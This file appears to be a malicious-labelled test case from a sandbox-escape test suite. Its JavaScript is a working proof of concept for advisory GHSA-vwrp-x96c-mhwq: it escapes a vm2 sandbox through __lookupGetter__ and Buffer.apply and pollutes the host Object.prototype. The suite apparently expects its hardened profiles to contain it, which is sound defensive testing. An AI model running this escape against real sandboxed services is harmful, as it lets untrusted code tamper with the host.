/*---
id: pp-host-intrinsic-05-bridge-set-trap
description: "GHSA-vwrp-x96c-mhwq as published: the __lookupGetter__ +
  Buffer.apply walk reaches the host Object.prototype and a plain assignment
  goes through the bridge's set trap into the host."
kind: malicious
category: persistence
technique: PP-host-intrinsic
variant: plain
references:
  - GHSA-vwrp-x96c-mhwq
proven:
  - vm2@3.9.19
expect:
  ultra-secure:
    outcome: contained
    value: held
  high-security:
    outcome: contained
    value: held
  tenant-isolated:
    outcome: contained
    value: held
---*/
// GHSA-vwrp-x96c-mhwq: the __proto__ getter from ({}).__lookupGetter__, applied through Buffer.apply, walks
// Buffer.of()'s prototype chain out to the host's Object.prototype, and the bridge forwards a plain write.
if (typeof Buffer !== 'function') return 'held';
const getProto = ({}).__lookupGetter__('__proto__') && ({}).__lookupGetter__;
const apply = Buffer.apply;
const proto = apply.apply(getProto, [Buffer, ['__proto__']]);
const top = proto.call(proto.call(proto.call(proto.call(Buffer.of()))));
top.sandproofPolluted = 'ESCAPED';
return ({}).sandproofPolluted === 'ESCAPED' && top !== Object.prototype ? 'ESCAPED: host prototype' : 'held';
